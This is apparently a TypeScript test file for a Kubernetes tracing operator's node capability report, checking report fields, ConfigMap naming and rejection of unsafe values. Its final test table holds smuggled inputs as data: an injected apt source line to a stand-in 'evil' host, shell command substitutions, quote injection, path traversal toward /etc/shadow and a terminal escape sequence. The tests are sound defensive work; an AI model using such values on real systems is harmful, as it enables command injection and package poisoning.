import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { capabilityConfigMap, capabilityConfigMapName, capabilityReport, reportFromConfigMap, shouldWriteReport, type CapabilityReport } from './capabilities.js';

// A preflight message's caps as this cluster's agent sends them (capsForMessage shape).
const CAPS_HERE = {
  kernel: '6.18.44-fc-v769',
  btf: true,
  tracefs: true,
  kprobes: false,
  kfunc: false,
  uprobes: true,
  perfEvents: true,
  cgroupVersion: 'hybrid',
  arch: 'x86_64',
  tracepoints: 1893,
  bpftrace: { version: '0.23.2', major: 0, minor: 23 },
  host: {
    tracefsPath: '/sys/kernel/tracing',
    cgroup: { version: 'hybrid', unifiedRoot: '/sys/fs/cgroup/unified' },
    modules: false,
    kernelBuildTree: false,
    canRaiseMemlock: false,
    bpftracePath: 'bpftrace',
    stap: false,
    kernelConfig: 'proc',
    warnings: [],
    lockdown: 'none',
    debuginfo: { present: false, debuginfod: false },
    os: { id: 'debian', idLike: [], prettyName: 'Debian GNU/Linux 12 (bookworm)' },
  },
};

function report(caps: unknown, node: string, now: Date): CapabilityReport {
  const r = capabilityReport(caps, node, now);
  assert.ok(r.ok, r.ok ? '' : r.error);
  return r.report;
}

describe('capabilityReport', () => {
  const now = new Date('2026-11-27T06:00:00Z');
  it('this cluster: every field', () => {
    assert.deepEqual(report(CAPS_HERE, 'tracejob-node', now), {
      node: 'tracejob-node',
      reportedAt: '2026-11-27T06:00:00.000Z',
      kernel: '6.18.44-fc-v769',
      arch: 'x86_64',
      os: 'Debian GNU/Linux 12 (bookworm)',
      osRelease: { id: 'debian', idLike: [] },
      btf: true,
      tracefs: true,
      tracepoints: 1893,
      kprobes: false,
      kfunc: false,
      uprobes: true,
      perfEvents: true,
      modules: false,
      lockdown: 'none',
      kernelBuildTree: false,
      stapInstalled: false,
      stapModuleRuntime: false,
      stapbpf: false,
      canRaiseMemlock: false,
      debuginfo: { present: false, debuginfod: false },
      bpftrace: '0.23.2',
      cgroupVersion: 'hybrid',
      kernelConfig: 'proc',
      backends: ['bpftrace'],
    });
  });
  it('a SystemTap-capable node lists both backends', () => {
    const caps = { ...CAPS_HERE, host: { ...CAPS_HERE.host, stap: true, modules: true, kernelBuildTree: true, stapVersion: '4.8' } };
    const r = report(caps, 'n', now);
    assert.equal(r.stapModuleRuntime, true);
    assert.equal(r.stapbpf, false);
    assert.deepEqual(r.backends, ['bpftrace', 'systemtap']);
    assert.equal(r.stapVersion, '4.8');
  });
  it('an old agent (no host facts) gives false/unknown, never throws', () => {
    const r = report({ kernel: '5.10' }, 'n', now);
    assert.equal(r.lockdown, 'unknown');
    assert.equal(r.modules, false);
    assert.deepEqual(r.backends, []);
  });
});

describe('capabilityConfigMap', () => {
  it('tracejob-node-<node> in the operator namespace with the component label', () => {
    const built = capabilityConfigMap(CAPS_HERE, 'tracejob-node', new Date(0), 'tracejob-system');
    assert.ok(built.ok);
    const cm = built.configMap;
    assert.equal(cm.metadata?.name, 'tracejob-node-tracejob-node');
    assert.equal(cm.metadata?.namespace, 'tracejob-system');
    assert.equal(cm.metadata?.labels?.['app.kubernetes.io/component'], 'node-capabilities');
    const r = JSON.parse(cm.data?.['report.json'] ?? '') as Record<string, unknown>;
    assert.equal(r['kprobes'], false);
  });
  it('names stay within 253 characters', () => {
    assert.ok(capabilityConfigMapName('a'.repeat(300)).length <= 253);
  });
  it('writes once per node job', () => {
    assert.equal(shouldWriteReport('tj-x-g1-abc'), true);
    assert.equal(shouldWriteReport('tj-x-g1-abc'), false);
  });
});

describe('the capability report refuses values that would reach a shell, a source line or a path', () => {
  const now = new Date('2026-11-27T06:00:00Z');
  const withOs = (os: Record<string, unknown>) => ({ ...CAPS_HERE, host: { ...CAPS_HERE.host, os: { ...CAPS_HERE.host.os, ...os } } });
  const table: Array<[string, unknown, RegExp]> = [
    ['codename with an apt source line', withOs({ codename: 'bookworm main\ndeb [trusted=yes] http://evil/ x' }), /host\.os\.codename/],
    ['codename with a command substitution', withOs({ codename: '$(touch /x)' }), /host\.os\.codename/],
    ['os id with a quote', withOs({ id: "debian'; touch /x; '" }), /host\.os\.id/],
    ['version id with a slash', withOs({ versionId: '12/../../x' }), /host\.os\.versionId/],
    ['ID_LIKE word with a space', withOs({ idLike: ['debian ubuntu'] }), /host\.os\.idLike/],
    ['kernel release with a command substitution', { ...CAPS_HERE, kernel: '6.1.0-18-amd64$(id)' }, /kernel/],
    ['kernel release with a path', { ...CAPS_HERE, kernel: '../../etc' }, /kernel/],
    ['kernel release that is a parent directory', { ...CAPS_HERE, kernel: '..' }, /kernel/],
    ['kernel release with a newline', { ...CAPS_HERE, kernel: '6.1.0\n' }, /kernel/],
    ['vmlinux path with ..', { ...CAPS_HERE, host: { ...CAPS_HERE.host, debuginfo: { present: true, vmlinux: '/usr/lib/debug/../../../etc/shadow', debuginfod: false } } }, /host\.debuginfo\.vmlinux/],
    ['pretty name with an escape sequence', withOs({ prettyName: 'Debian\u001b]52;c;AAAA\u0007' }), /host\.os\.prettyName/],
  ];
  for (const [what, caps, field] of table) {
    it(what, () => {
      const r = capabilityReport(caps, 'tracejob-node', now);
      assert.equal(r.ok, false, what);
      assert.match(r.ok ? '' : r.error, field);
      const cm = capabilityConfigMap(caps, 'tracejob-node', now, 'tracejob-system');
      assert.equal(cm.ok, false, 'no ConfigMap is built from it');
    });
  }

  it('a stored report that does not parse counts as missing (so it is refreshed)', () => {
    const good = capabilityConfigMap({ ...CAPS_HERE, host: { ...CAPS_HERE.host, os: { id: 'debian', idLike: [], versionId: '12', codename: 'bookworm' } } }, 'tracejob-node', now, 'tracejob-system');
    assert.ok(good.ok);
    assert.equal(reportFromConfigMap(good.configMap)?.osRelease?.codename, 'bookworm');
    // The same report edited to carry a poisoned codename (or written by an old operator from a forged record).
    const poisoned = JSON.parse(good.configMap.data?.['report.json'] ?? '{}') as { osRelease: { codename: string } };
    poisoned.osRelease.codename = 'bookworm main\ndeb [trusted=yes] http://evil/ x';
    assert.equal(reportFromConfigMap({ data: { 'report.json': JSON.stringify(poisoned) } }), undefined);
    const forgedKernel = { ...poisoned, osRelease: { id: 'debian', idLike: [] }, kernel: '$(touch /x)' };
    assert.equal(reportFromConfigMap({ data: { 'report.json': JSON.stringify(forgedKernel) } }), undefined);
    const unknownOnly = { node: 'n', reportedAt: now.toISOString(), kernel: '6.1.0' };
    assert.equal(reportFromConfigMap({ data: { 'report.json': JSON.stringify(unknownOnly) } })?.modules, false, 'missing facts default to "cannot"');
  });
});
